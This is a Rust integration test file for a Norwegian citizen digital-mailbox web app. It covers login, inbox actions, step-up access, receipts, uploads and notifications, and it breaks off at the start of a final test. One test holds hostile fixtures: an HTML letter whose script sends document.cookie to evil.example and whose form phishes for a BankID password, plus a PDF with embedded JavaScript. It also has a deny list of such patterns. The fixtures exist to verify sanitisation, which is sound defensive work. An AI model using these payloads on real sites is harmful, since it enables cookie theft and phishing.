//! The citizen web app over real HTTP: login through the ID-porten stand-in, letters
//! delivered through a real access point, every page and action as a browser uses them.

mod common;

use common::*;

const SUBSTANTIAL: &str = "idporten-loa-substantial";
const HIGH: &str = "idporten-loa-high";

#[tokio::test]
async fn inbox_letter_and_folders() {
    let chain = start().await;
    let kari = chain.pids.digipost.clone();
    let first = Letter::to(&chain, &kari, "Skattemelding 2026").docs(vec![
        Doc::new("brev.pdf", "application/pdf", "Skattemeldingen", PDF),
        Doc::new(
            "vedlegg.txt",
            "text/plain",
            "Forklaring",
            "Slik leser du skattemeldingen <b>ikke fet</b>.\n".as_bytes(),
        ),
    ]);
    chain.deliver(&first).await;
    chain
        .deliver(&Letter::to(&chain, &kari, "Barnehageplass"))
        .await;

    let b = chain.browser(&kari, SUBSTANTIAL).await;
    let before = time::OffsetDateTime::now_utc();
    let inbox = b.get("/postkasse/innboks").await;
    assert_eq!(inbox.status, 200);
    assert!(inbox.body.contains("lang=\"nb\""));
    // Each row shows the Norwegian day it came, machine-readable beside the text (either side
    // of a midnight the request may have crossed).
    let shown = |t| {
        let d = innboks::views::ShownDay::of(innboks::i18n::Lang::Nb, t);
        format!("<time datetime=\"{}\">{d}</time>", d.iso())
    };
    let mut days = vec![shown(before), shown(time::OffsetDateTime::now_utc())];
    days.dedup();
    let rows: usize = days
        .iter()
        .map(|d| inbox.body.matches(d.as_str()).count())
        .sum();
    assert_eq!(rows, 2, "{days:?}");
    // Newest first, both unread, sender name and attachment count shown.
    let a = inbox.body.find("Barnehageplass").unwrap();
    let s = inbox.body.find("Skattemelding 2026").unwrap();
    assert!(a < s, "newest first");
    assert_eq!(inbox.body.matches("letter--unread").count(), 2);
    assert!(inbox.body.contains(pki::demo::KOMMUNE_NAME));
    assert!(inbox.body.contains("1 vedlegg"));
    // The strict policy is on every page.
    let csp = inbox.headers["content-security-policy"].to_str().unwrap();
    assert!(csp.contains("default-src 'none'") && !csp.contains("script-src"));
    assert_eq!(inbox.headers["x-content-type-options"], "nosniff");

    let ids = letter_ids(&inbox.body);
    assert_eq!(ids.len(), 2);
    let skatt = ids[1].clone();
    let letter = b.get(&format!("/postkasse/innboks/brev/{skatt}")).await;
    assert_eq!(letter.status, 200);
    assert!(letter.body.contains("Skattemeldingen"));
    // Text documents inline, escaped.
    assert!(
        letter
            .body
            .contains("Slik leser du skattemeldingen &#60;b&#62;ikke fet&#60;/b&#62;.")
    );
    // PDF in a frame with a download link.
    assert!(
        letter
            .body
            .contains(&format!("/innboks/brev/{skatt}/dokument/0\""))
    );
    assert!(
        letter
            .body
            .contains(&format!("/innboks/brev/{skatt}/dokument/0?last_ned=1"))
    );
    // Opening made it read.
    let inbox = b.get("/postkasse/innboks").await;
    assert_eq!(inbox.body.matches("letter--unread").count(), 1);
    let unread_only = b.get("/postkasse/innboks?ulest=1").await;
    assert_eq!(letter_ids(&unread_only.body), vec![ids[0].clone()]);
    // Search in titles.
    let found = b.get("/postkasse/innboks?sok=skatte").await;
    assert_eq!(letter_ids(&found.body), vec![skatt.clone()]);
    // Sender filter and date range.
    let by_sender = b
        .get(&format!(
            "/postkasse/innboks?avsender={}",
            pki::demo::kommune()
        ))
        .await;
    assert_eq!(letter_ids(&by_sender.body).len(), 2);
    let by_other = b.get("/postkasse/innboks?avsender=974760673").await;
    assert!(letter_ids(&by_other.body).is_empty());
    let old = b.get("/postkasse/innboks?til=2020-01-01").await;
    assert!(letter_ids(&old.body).is_empty());
    let today = time::OffsetDateTime::now_utc().date();
    let recent = b
        .get(&format!(
            "/postkasse/innboks?fra={}",
            today.previous_day().unwrap()
        ))
        .await;
    assert_eq!(letter_ids(&recent.body).len(), 2);

    // Mark unread again.
    let token = csrf(&letter.body);
    let r = b
        .post(
            &format!("/postkasse/innboks/brev/{skatt}/ulest"),
            &[("csrf", &token)],
        )
        .await;
    assert_eq!(r.status, 200);
    assert_eq!(r.body.matches("letter--unread").count(), 2);

    // Archive from the letter page, then restore from the archive.
    let r = b
        .post(
            &format!("/postkasse/innboks/brev/{skatt}/flytt"),
            &[("csrf", &token), ("til", "archive")],
        )
        .await;
    assert_eq!(r.status, 200);
    assert!(r.url.contains("mappe=archive"));
    assert_eq!(letter_ids(&r.body), vec![skatt.clone()]);
    let inbox = b.get("/postkasse/innboks").await;
    assert_eq!(letter_ids(&inbox.body), vec![ids[0].clone()]);
    let r = b
        .post(
            &format!("/postkasse/innboks/brev/{skatt}/flytt"),
            &[("csrf", &token), ("til", "inbox")],
        )
        .await;
    assert_eq!(letter_ids(&r.body).len(), 2);

    // Bulk: both to the bin, then both back.
    let r = b
        .post(
            "/postkasse/innboks/handling",
            &[
                ("csrf", &token),
                ("mappe", "inbox"),
                ("id", &ids[0]),
                ("id", &ids[1]),
                ("action", "bin"),
            ],
        )
        .await;
    assert_eq!(r.status, 200);
    assert!(letter_ids(&r.body).is_empty());
    let bin = b.get("/postkasse/innboks?mappe=bin").await;
    assert_eq!(letter_ids(&bin.body).len(), 2);
    let r = b
        .post(
            "/postkasse/innboks/handling",
            &[
                ("csrf", &token),
                ("mappe", "bin"),
                ("id", &ids[0]),
                ("id", &ids[1]),
                ("action", "inbox"),
            ],
        )
        .await;
    assert!(letter_ids(&r.body).is_empty());
    assert_eq!(letter_ids(&b.get("/postkasse/innboks").await.body).len(), 2);

    // A form without the token is refused and changes nothing.
    let r = b
        .post(
            "/postkasse/innboks/handling",
            &[("csrf", "x"), ("id", &ids[0]), ("action", "bin")],
        )
        .await;
    assert_eq!(r.status, 403);
    assert_eq!(letter_ids(&b.get("/postkasse/innboks").await.body).len(), 2);
    chain.stop().await;
}

/// With sessions in the database (the default), a citizen stays logged in when the app
/// restarts or the next request reaches another instance, and the forms of a page from one
/// instance are accepted by the other.
#[tokio::test]
async fn a_login_holds_across_a_restart_and_a_second_instance() {
    let chain = start().await;
    let kari = chain.pids.digipost.clone();
    chain
        .deliver(&Letter::to(&chain, &kari, "Skattemelding 2026"))
        .await;
    let b = chain.browser(&kari, SUBSTANTIAL).await;
    let page = b.get("/postkasse/innboks").await;
    let token = csrf(&page.body);
    let ids = letter_ids(&page.body);
    assert_eq!(ids.len(), 1);

    let other = chain.second_innboks().await;
    let there = b.get(&format!("{other}/postkasse/innboks")).await;
    assert_eq!(there.status, 200);
    assert!(!there.body.contains("name=\"rid\""), "not sent to log in");
    assert!(there.body.contains("Kari Nordmann"), "{}", there.body);
    assert_eq!(letter_ids(&there.body), ids);
    let r = b
        .post(
            &format!("{other}/postkasse/innboks/handling"),
            &[
                ("csrf", &token),
                ("mappe", "inbox"),
                ("id", &ids[0]),
                ("action", "archive"),
            ],
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.body);
    assert!(letter_ids(&b.get("/postkasse/innboks").await.body).is_empty());

    // A login that starts at the second instance and whose callback reaches the first.
    let c = Browser {
        client: reqwest::Client::builder()
            .cookie_store(true)
            .build()
            .unwrap(),
        origin: chain.origin.clone(),
    };
    let start = c.get(&format!("{other}/postkasse/innboks")).await;
    assert!(start.body.contains("name=\"rid\""), "{}", start.body);
    let done = c.login_form(&start.body, &kari, SUBSTANTIAL).await;
    assert_eq!(done.status, 200, "{} {}", done.url, done.body);
    assert!(done.url.starts_with(&chain.origin), "{}", done.url);
    assert!(done.body.contains("Kari Nordmann"), "{}", done.body);
    chain.stop().await;
}

/// Sessions in memory (`session_store = "memory"`) are the process's own: another instance
/// sends the citizen to log in again, and that login (ID-porten still knows the citizen and
/// answers at once) comes back to the first instance, the registered redirect URI, which
/// completes it from the state cookie though it never started it.
#[tokio::test]
async fn sessions_in_memory_are_not_shared() {
    let chain = start_with("127.0.0.1:0", |c| {
        c.session_store = innboks::SessionStoreKind::Memory
    })
    .await;
    let b = chain.browser(&chain.pids.digipost, SUBSTANTIAL).await;
    let other = chain.second_innboks().await;
    let there = b.get(&format!("{other}/postkasse/innboks")).await;
    assert_eq!(there.status, 200, "{}", there.body);
    assert_eq!(
        there.url,
        format!("{}/postkasse/innboks", chain.origin),
        "sent through a login that ended at the first instance"
    );
    assert!(there.body.contains("Kari Nordmann"), "{}", there.body);
    chain.stop().await;
}

#[tokio::test]
async fn keyset_paging() {
    let chain = start_with("127.0.0.1:0", |c| c.page_size = 2).await;
    let kari = chain.pids.digipost.clone();
    for i in 0..5 {
        chain
            .deliver(&Letter::to(&chain, &kari, &format!("Brev nummer {i}")))
            .await;
    }
    let b = chain.browser(&kari, SUBSTANTIAL).await;
    let mut seen = Vec::new();
    let mut page = b.get("/postkasse/innboks").await;
    loop {
        let ids = letter_ids(&page.body);
        assert!(ids.len() <= 2);
        seen.extend(ids);
        let Some(href) = href_with(&page.body, "rel=\"next\"") else {
            break;
        };
        page = b.get(&href).await;
    }
    assert_eq!(seen.len(), 5);
    let mut dedup = seen.clone();
    dedup.sort();
    dedup.dedup();
    assert_eq!(dedup.len(), 5, "no letter twice");
    chain.stop().await;
}

#[tokio::test]
async fn opening_receipt_is_asked_for_and_reaches_the_sender() {
    let chain = start().await;
    let kari = chain.pids.digipost.clone();
    let sbd = chain
        .deliver(&Letter::to(&chain, &kari, "Innkalling til møte").receipt())
        .await;
    let b = chain.browser(&kari, SUBSTANTIAL).await;
    let inbox = b.get("/postkasse/innboks").await;
    let id = letter_ids(&inbox.body).remove(0);
    let page = b.get(&format!("/postkasse/innboks/brev/{id}")).await;
    assert!(page.body.contains("Avsenderen ber om åpningskvittering"));
    assert!(
        !page.body.contains("/dokument/0"),
        "no content before consent"
    );
    let (status, _, _) = b
        .get_bytes(&format!("/postkasse/innboks/brev/{id}/dokument/0"))
        .await;
    assert_eq!(status, 403);
    // Still unread: looking at the consent step is not opening.
    assert!(
        b.get("/postkasse/innboks")
            .await
            .body
            .contains("letter--unread")
    );
    let r = b
        .post(
            &format!("/postkasse/innboks/brev/{id}/kvittering"),
            &[("csrf", &csrf(&page.body))],
        )
        .await;
    assert_eq!(r.status, 200);
    assert!(r.body.contains("Avsenderen har fått beskjed"));
    assert!(r.body.contains("/dokument/0"));
    assert!(
        chain.wait_receipt(&sbd, "aapningskvittering").await,
        "the sender sees it opened"
    );
    chain.stop().await;
}

#[tokio::test]
async fn level4_letter_needs_step_up_and_returns_to_it() {
    let chain = start().await;
    let kari = chain.pids.digipost.clone();
    chain
        .deliver(
            &Letter::to(&chain, &kari, "Melding fra helsetjenesten")
                .level4()
                .docs(vec![Doc::new(
                    "brev.pdf",
                    "application/pdf",
                    "Prøvesvar: sensitiv diagnose",
                    PDF,
                )]),
        )
        .await;
    let b = chain.browser(&kari, SUBSTANTIAL).await;
    let inbox = b.get("/postkasse/innboks").await;
    assert!(inbox.body.contains("Melding fra helsetjenesten"));
    assert!(!inbox.body.contains("sensitiv diagnose"));
    let id = letter_ids(&inbox.body).remove(0);
    let path = format!("/postkasse/innboks/brev/{id}");
    let page = b.get(&path).await;
    assert!(page.body.contains("krever høyere sikkerhetsnivå"));
    assert!(!page.body.contains("sensitiv diagnose"));
    let (status, _, _) = b.get_bytes(&format!("{path}/dokument/0")).await;
    assert_eq!(status, 403);
    // Step up: the link goes to login at high and comes back to the same letter.
    let href = href_with(&page.body, "acr=idporten-loa-high").unwrap();
    let login = b.get(&href).await;
    assert!(login.url.contains("/idporten/"), "{}", login.url);
    assert!(login.body.contains(HIGH));
    let back = b.login_form(&login.body, &kari, HIGH).await;
    assert_eq!(back.status, 200);
    assert!(back.url.ends_with(&path), "{}", back.url);
    assert!(back.body.contains("sensitiv diagnose"));
    let (status, headers, bytes) = b.get_bytes(&format!("{path}/dokument/0")).await;
    assert_eq!(status, 200);
    assert_eq!(headers["content-type"], "application/pdf");
    assert_eq!(bytes, PDF);
    chain.stop().await;
}

#[tokio::test]
async fn smart_views_of_lenke_arrangement_and_bevis() {
    let chain = start().await;
    let kari = chain.pids.digipost.clone();
    chain.deliver(&smart_letter(&chain, &kari)).await;
    let b = chain.browser(&kari, SUBSTANTIAL).await;
    let id = letter_ids(&b.get("/postkasse/innboks").await.body).remove(0);
    let page = b.get(&format!("/postkasse/innboks/brev/{id}")).await;
    assert_eq!(page.status, 200);
    // Lenke: button text, description, the deadline marked as passed.
    assert!(page.body.contains(">Svar her</a>"));
    assert!(page.body.contains("Svar på tilbudet om barnehageplass"));
    assert!(page.body.contains("Fristen har gått ut"));
    assert!(page.body.contains("15. desember 2020 kl. 12:00"));
    assert!(
        page.body
            .contains(&format!("href=\"{}/lenke-maal\"", chain.origin))
    );
    assert!(page.body.contains("rel=\"noopener noreferrer\""));
    // Arrangement: time, place, barcode as inline SVG, calendar link.
    assert!(page.body.contains("Time hos tannlegen"));
    assert!(page.body.contains("3. mars 2030 kl. 10:00–10:30"));
    assert!(page.body.contains("Tannklinikken"));
    assert!(
        page.body
            .contains("<svg xmlns=\"http://www.w3.org/2000/svg\"")
    );
    assert!(page.body.contains("ABC-12345"));
    let ics_href = format!("/postkasse/innboks/brev/{id}/dokument/1/kalender.ics");
    assert!(page.body.contains(&ics_href));
    let (status, headers, ics) = b.get_bytes(&ics_href).await;
    assert_eq!(status, 200);
    assert_eq!(headers["content-type"], "text/calendar; charset=utf-8");
    assert!(
        headers["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("attachment")
    );
    let ics = String::from_utf8(ics).unwrap();
    assert!(ics.contains("DTSTART:20300303T090000Z"));
    assert!(ics.contains("SUMMARY:Time hos tannlegen"));
    // No calendar for a document without an arrangement.
    let (status, _, _) = b
        .get_bytes(&format!(
            "/postkasse/innboks/brev/{id}/dokument/0/kalender.ics"
        ))
        .await;
    assert_eq!(status, 404);
    // Bevis: card in the issuer's colour with readable text, marked not valid now.
    assert!(
        page.body
            .contains("background-color: #003087; color: #ffffff")
    );
    assert!(page.body.contains("Parkeringstillatelse"));
    assert!(page.body.contains("Kari Nordmann"));
    assert!(page.body.contains("Sentrum"));
    assert!(page.body.contains("hvert år"));
    assert!(page.body.contains("Ikke gyldig nå"));
    chain.stop().await;
}

const HOSTILE_HTML: &str = r#"<!DOCTYPE html><html><head><title>x</title>
<script>fetch('https://evil.example/?c='+document.cookie)</script>
<link rel="stylesheet" href="https://evil.example/s.css"></head>
<body onload="alert(1)"><h1>Vedtak om bostøtte</h1>
<p onmouseover="alert(2)">Du har fått <strong>innvilget</strong> bostøtte.</p>
<img src="https://evil.example/pixel.png" alt="sporing">
<form action="https://evil.example/phish" method="post"><label>BankID-passord <input name="pw"></label><button>Send</button></form>
<a href="javascript:alert(3)">Klikk</a>
<iframe src="https://evil.example/"></iframe>
</body></html>"#;

const HOSTILE_PDF: &[u8] = b"%PDF-1.4\n<html><script>alert(document.domain)</script></html>\n\
1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF\n";

#[tokio::test]
async fn hostile_html_and_pdf_are_harmless() {
    let chain = start().await;
    let kari = chain.pids.digipost.clone();
    chain
        .deliver(&Letter::to(&chain, &kari, "Vedtak").docs(vec![
            Doc::new(
                "vedtak.html",
                "text/html",
                "Vedtak om bostøtte",
                HOSTILE_HTML.as_bytes(),
            ),
            Doc::new("vedlegg.pdf", "application/pdf", "Vedlegg", HOSTILE_PDF),
        ]))
        .await;
    let b = chain.browser(&kari, SUBSTANTIAL).await;
    let id = letter_ids(&b.get("/postkasse/innboks").await.body).remove(0);
    let page = b.get(&format!("/postkasse/innboks/brev/{id}")).await;
    // The HTML letter only ever appears in a sandboxed frame without scripts.
    assert!(
        page.body
            .contains("sandbox=\"allow-popups allow-popups-to-escape-sandbox\"")
    );
    assert!(!page.body.contains("evil.example"));
    let vis = b
        .get(&format!("/postkasse/innboks/brev/{id}/dokument/0/vis"))
        .await;
    assert_eq!(vis.status, 200);
    let lower = vis.body.to_ascii_lowercase();
    for bad in [
        "<script",
        "onload",
        "onmouseover",
        "evil.example",
        "<form",
        "<input",
        "<iframe",
        "javascript:",
        "<link",
    ] {
        assert!(!lower.contains(bad), "{bad} in {}", vis.body);
    }
    assert!(
        vis.body
            .contains("Du har fått <strong>innvilget</strong> bostøtte.")
    );
    let csp = vis.headers["content-security-policy"].to_str().unwrap();
    assert!(csp.contains("default-src 'none'"));
    assert!(csp.contains("sandbox"));
    assert!(!csp.contains("script"));
    assert_eq!(vis.headers["x-content-type-options"], "nosniff");
    // The raw HTML is never served as HTML.
    let (status, headers, _) = b
        .get_bytes(&format!("/postkasse/innboks/brev/{id}/dokument/0"))
        .await;
    assert_eq!(status, 200);
    assert_eq!(headers["content-type"], "application/octet-stream");
    assert!(
        headers["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("attachment")
    );
    // The PDF keeps its type (never sniffed as HTML), cannot be framed by others and gets
    // no network; the download is an attachment.
    let (status, headers, bytes) = b
        .get_bytes(&format!("/postkasse/innboks/brev/{id}/dokument/1"))
        .await;
    assert_eq!(status, 200);
    assert_eq!(bytes, HOSTILE_PDF);
    assert_eq!(headers["content-type"], "application/pdf");
    assert_eq!(headers["x-content-type-options"], "nosniff");
    let csp = headers["content-security-policy"].to_str().unwrap();
    assert!(csp.contains("default-src 'none'") && csp.contains("frame-ancestors 'self'"));
    assert_eq!(headers["cross-origin-resource-policy"], "same-origin");
    let (_, headers, _) = b
        .get_bytes(&format!(
            "/postkasse/innboks/brev/{id}/dokument/1?last_ned=1"
        ))
        .await;
    let disp = headers["content-disposition"].to_str().unwrap();
    assert!(
        disp.starts_with("attachment; filename=\"vedlegg.pdf\""),
        "{disp}"
    );
    chain.stop().await;
}

#[tokio::test]
async fn language_switch_and_ui_locales() {
    let chain = start().await;
    let kari = chain.pids.digipost.clone();
    let b = chain.browser(&kari, SUBSTANTIAL).await;
    let nn = b
        .get("/postkasse/innboks/sprak/nn?til=%2Fpostkasse%2Finnboks%3Fmappe%3Darchive")
        .await;
    assert_eq!(nn.status, 200);
    assert!(nn.url.ends_with("/postkasse/innboks?mappe=archive"));
    assert!(nn.body.contains("<html lang=\"nn\""));
    assert!(nn.body.contains("Hopp til hovudinnhald"));
    let en = b
        .get("/postkasse/innboks/sprak/en?til=https%3A%2F%2Fevil.example%2F")
        .await;
    assert!(
        en.url.ends_with("/postkasse/innboks"),
        "no open redirect: {}",
        en.url
    );
    assert!(en.body.contains("<html lang=\"en\""));
    assert!(en.body.contains("Skip to main content"));
    // The login redirect tells ID-porten the language, and its login page follows it.
    let fresh = reqwest::Client::builder()
        .cookie_store(true)
        .build()
        .unwrap();
    let r = fresh
        .get(chain.url("/postkasse/innboks/sprak/nn"))
        .header("accept", "text/html")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let r = fresh
        .get(chain.url("/postkasse/innboks"))
        .header("accept", "text/html")
        .send()
        .await
        .unwrap();
    assert!(r.url().as_str().contains("ui_locales=nn"), "{}", r.url());
    let page = r.text().await.unwrap();
    assert!(page.contains("lang=\"nn\""), "{page}");
    chain.stop().await;
}

#[tokio::test]
async fn own_documents_upload_with_limits() {
    let chain = start_with("127.0.0.1:0", |c| c.max_upload_bytes = 64 * 1024).await;
    let kari = chain.pids.digipost.clone();
    let b = chain.browser(&kari, SUBSTANTIAL).await;
    let page = b.get("/postkasse/innboks/dokumenter").await;
    assert_eq!(page.status, 200);
    let token = csrf(&page.body);
    let up = |name: &'static str, bytes: Vec<u8>, token: String| {
        let form = reqwest::multipart::Form::new().text("csrf", token).part(
            "fil",
            reqwest::multipart::Part::bytes(bytes).file_name(name),
        );
        b.client
            .post(b.abs("/postkasse/innboks/dokumenter"))
            .multipart(form)
            .send()
    };
    let r = up("kvittering.pdf", PDF.to_vec(), token.clone())
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let body = r.text().await.unwrap();
    assert!(body.contains("Dokumentet er lastet opp."));
    assert!(body.contains("kvittering.pdf"));
    let r = up("virus.exe", b"MZ\x90\x00\x03\x00".to_vec(), token.clone())
        .await
        .unwrap();
    assert_eq!(r.status(), 415);
    assert!(
        r.text()
            .await
            .unwrap()
            .contains("Denne filtypen kan ikke lastes opp")
    );
    let r = up(
        "stor.pdf",
        [b"%PDF-".as_slice(), &vec![b'a'; 200 * 1024]].concat(),
        token.clone(),
    )
    .await
    .unwrap();
    assert_eq!(r.status(), 413);
    assert!(r.text().await.unwrap().contains("Filen er for stor."));
    let r = up("x.pdf", PDF.to_vec(), "feil".into()).await.unwrap();
    assert_eq!(r.status(), 403);
    // The uploaded document is served back with safe headers.
    let page = b.get("/postkasse/innboks/dokumenter").await;
    let i = page.body.find("/innboks/dokumenter/").unwrap();
    let href: String = page.body[i..].chars().take_while(|c| *c != '"').collect();
    let (status, headers, bytes) = b.get_bytes(&format!("/postkasse{href}")).await;
    assert_eq!(status, 200);
    assert_eq!(bytes, PDF);
    assert_eq!(headers["content-type"], "application/pdf");
    chain.stop().await;
}

#[tokio::test]
async fn not_logged_in_goes_to_login_and_no_mailbox_is_told() {
    let chain = start().await;
    let anon = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let r = anon
        .get(chain.url("/postkasse/innboks"))
        .header("accept", "text/html")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 303);
    assert!(
        r.headers()["location"]
            .to_str()
            .unwrap()
            .contains("/postkasse/auth/login")
    );
    let r = anon
        .post(chain.url("/postkasse/innboks/handling"))
        .form(&[("action", "bin")])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
    let welcome = anon
        .get(chain.url("/postkasse/innboks/velkommen"))
        .send()
        .await
        .unwrap();
    assert_eq!(welcome.status(), 200);
    // A person without a mailbox here gets a clear page, not someone else's.
    let per = chain.pids.no_mailbox.clone();
    let b = Browser {
        client: reqwest::Client::builder()
            .cookie_store(true)
            .build()
            .unwrap(),
        origin: chain.origin.clone(),
    };
    let login = b.get("/postkasse/innboks").await;
    let r = b.login_form(&login.body, &per, SUBSTANTIAL).await;
    assert_eq!(r.status, 403);
    assert!(r.body.contains("Du har ingen postkasse her"));
    chain.stop().await;
}

#[tokio::test]
async fn notifications_go_out_only_for_unread_letters() {
    let chain = start_with("127.0.0.1:0", |c| {
        c.notify.window_start_hour = 0;
        c.notify.window_end_hour = 24;
        c.notify.scan_interval_secs = 3600;
    })
    .await;
    let kari = chain.pids.digipost.clone();
    let varsler = dpi::message::Varsler {
        epostvarsel: Some(dpi::message::Epostvarsel {
            epostadresse: "kari@example.com".into(),
            varslingstekst: "Du har fått brev i den digitale postkassen".into(),
            repetisjoner: vec![0],
        }),
        smsvarsel: Some(dpi::message::Smsvarsel {
            mobiltelefonnummer: "+4799999999".into(),
            varslingstekst: "Nytt brev".into(),
            repetisjoner: vec![0, 7],
        }),
        extra: Default::default(),
    };
    let mut read = Letter::to(&chain, &kari, "Brevet som blir lest");
    read.varsler = Some(varsler.clone());
    chain.deliver(&read).await;
    let mut unread = Letter::to(&chain, &kari, "Brevet som ikke blir lest");
    unread.varsler = Some(varsler);
    chain.deliver(&unread).await;
    let b = chain.browser(&kari, SUBSTANTIAL).await;
    let inbox = b.get("/postkasse/innboks").await;
    let ids = letter_ids(&inbox.body);
    let (unread_id, read_id) = (ids[0].clone(), ids[1].clone());
    assert_eq!(
        b.get(&format!("/postkasse/innboks/brev/{read_id}"))
            .await
            .status,
        200
    );

    // Two letters × (e-mail day 0, SMS day 0, SMS day 7); a second scan adds nothing.
    assert_eq!(chain.innboks.scan_notifications().await.unwrap(), 6);
    assert_eq!(chain.innboks.scan_notifications().await.unwrap(), 0);
    let handles = innboks::spawn_workers(chain.innboks.clone(), chain.shutdown.subscribe());
    let mut page = b.get("/postkasse/innboks/varsler").await;
    for _ in 0..100 {
        if page.body.matches("<tr><td>").count() >= 2 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        page = b.get("/postkasse/innboks/varsler").await;
    }
    // Give a wrongly sent notice for the read letter time to show up too.
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    page = b.get("/postkasse/innboks/varsler").await;
    assert_eq!(page.body.matches("<tr><td>").count(), 2, "{}", page.body);
    assert!(page.body.contains(&unread_id));
    assert!(
        !page.body.contains(&read_id),
        "no reminder for a read letter"
    );
    assert!(page.body.contains("Nytt brev"));
    assert!(
        page.body
            .contains("Du har fått brev i den digitale postkassen")
    );
    // Another citizen sees none of them.
    let ola = chain.browser(&chain.pids.eboks, SUBSTANTIAL).await;
    assert!(
        !ola.get("/postkasse/innboks/varsler")
            .await
            .body
            .contains("<tr><td>")
    );
    chain.stop().await;
    for h in handles {
        let _ = h.await;
    }
}

/// A mail relay on loopback that refuses every recipient (`550`), as a real relay does for
/// an address it does not know; counts the refused recipients.
async fn refusing_smtp() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = l.local_addr().unwrap().port();
    let refused = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let count = refused.clone();
    tokio::spawn(async move {
        while let Ok((s, _)) = l.accept().await {
            let count = count.clone();
            tokio::spawn(async move {
                let (r, mut w) = s.into_split();
                let mut lines = BufReader::new(r).lines();
                let _ = w.write_all(b"220 relay.test ESMTP\r\n").await;
                while let Ok(Some(line)) = lines.next_line().await {
                    let verb = line.get(..4).unwrap_or_default().to_ascii_uppercase();
                    let reply: &[u8] = match verb.as_str() {
                        "EHLO" | "HELO" => b"250 relay.test\r\n",
                        "RCPT" => {
                            count.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                            b"550 5.1.1 No such user here\r\n"
                        }
                        "QUIT" => b"221 2.0.0 Bye\r\n",
                        _ => b"250 2.0.0 OK\r\n",
                    };
                    if w.write_all(reply).await.is_err() || verb == "QUIT" {
                        break;
                    }
                }
            });
        }
    });
    (port, refused)
}

fn email_only(to: &str) -> dpi::message::Varsler {
    dpi::message::Varsler {
        epostvarsel: Some(dpi::message::Epostvarsel {
            epostadresse: to.into(),
            varslingstekst: "Du har fått brev i den digitale postkassen".into(),
            repetisjoner: vec![0],
        }),
        smsvarsel: None,
        extra: Default::default(),
    }
}

/// Waits until the notification queue has no job left to run; returns its counts.
async fn settled_notify_jobs(chain: &Chain) -> store::StateCounts {
    let jobs = store::Jobs::new(chain.postkasse_db.db().clone());
    let mut counts = store::StateCounts::default();
    for _ in 0..300 {
        counts = jobs
            .counts()
            .await
            .unwrap()
            .get(innboks::notify::NOTIFY_QUEUE)
            .copied()
            .unwrap_or_default();
        if counts.queued + counts.running == 0 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    counts
}

async fn receipt_kinds(chain: &Chain, sbd: &dpi::message::Sbd) -> Vec<String> {
    chain
        .postkasse
        .receipts(&pki::demo::digipost(), &sbd.message_id().to_string())
        .await
        .unwrap()
        .into_iter()
        .map(|r| r.0)
        .collect()
}

#[tokio::test]
async fn an_email_the_relay_refuses_is_answered_to_the_sender_with_varslingfeiletkvittering() {
    let (port, refused) = refusing_smtp().await;
    let chain = start_with("127.0.0.1:0", |c| {
        c.notify.window_start_hour = 0;
        c.notify.window_end_hour = 24;
        c.notify.scan_interval_secs = 3600;
        c.notify.smtp = Some(innboks::notify::SmtpConfig {
            host: "127.0.0.1".into(),
            port,
            starttls: false,
        });
    })
    .await;
    let kari = chain.pids.digipost.clone();
    let mut letter = Letter::to(&chain, &kari, "Varselet blir avvist");
    letter.varsler = Some(email_only("finnes.ikke@example.com"));
    let sbd = chain.deliver(&letter).await;
    assert_eq!(chain.innboks.scan_notifications().await.unwrap(), 1);
    let handles = innboks::spawn_workers(chain.innboks.clone(), chain.shutdown.subscribe());

    assert!(
        chain.wait_receipt(&sbd, "varslingfeiletkvittering").await,
        "the sender gets a varslingfeiletkvittering through the access point"
    );
    // A refusal is final: tried once, the job finished, no e-mail recorded as sent.
    let counts = settled_notify_jobs(&chain).await;
    assert_eq!((counts.done, counts.dead), (1, 0), "{counts:?}");
    assert_eq!(refused.load(std::sync::atomic::Ordering::SeqCst), 1);
    assert_eq!(
        receipt_kinds(&chain, &sbd).await,
        ["leveringskvittering", "varslingfeiletkvittering:epost"]
    );
    let b = chain.browser(&kari, SUBSTANTIAL).await;
    let page = b.get("/postkasse/innboks/varsler").await;
    assert!(!page.body.contains("<tr><td>"), "{}", page.body);
    chain.stop().await;
    for h in handles {
        let _ = h.await;
    }
}

#[tokio::test]
async fn an_email_that_cannot_be_sent_is_answered_after_its_last_attempt() {
    // A port nobody listens on (kept for this test): every attempt fails with a connection
    // error (transient).
    let closed = store::testing::reserve_port();
    let port = closed.port;
    let chain = start_with("127.0.0.1:0", |c| {
        c.notify.window_start_hour = 0;
        c.notify.window_end_hour = 24;
        c.notify.scan_interval_secs = 3600;
        c.notify.max_attempts = 2;
        c.notify.smtp = Some(innboks::notify::SmtpConfig {
            host: "127.0.0.1".into(),
            port,
            starttls: false,
        });
    })
    .await;
    let kari = chain.pids.digipost.clone();
    let mut letter = Letter::to(&chain, &kari, "Varselet kommer aldri fram");
    letter.varsler = Some(email_only("kari@example.com"));
    let sbd = chain.deliver(&letter).await;
    assert_eq!(chain.innboks.scan_notifications().await.unwrap(), 1);
    let handles = innboks::spawn_workers(chain.innboks.clone(), chain.shutdown.subscribe());

    assert!(chain.wait_receipt(&sbd, "varslingfeiletkvittering").await);
    // Both attempts were used before the sender was told; the job is dead with its error.
    let counts = settled_notify_jobs(&chain).await;
    assert_eq!((counts.done, counts.dead), (0, 1), "{counts:?}");
    assert_eq!(
        receipt_kinds(&chain, &sbd).await,
        ["leveringskvittering", "varslingfeiletkvittering:epost"]
    );
    chain.stop().await;
    for h in handles {
        let _ = h.await;
    }
}

#[tokio::test]
async fn letters_before_their_virkningstidspunkt_are_not_shown() {
    let chain = start().await;
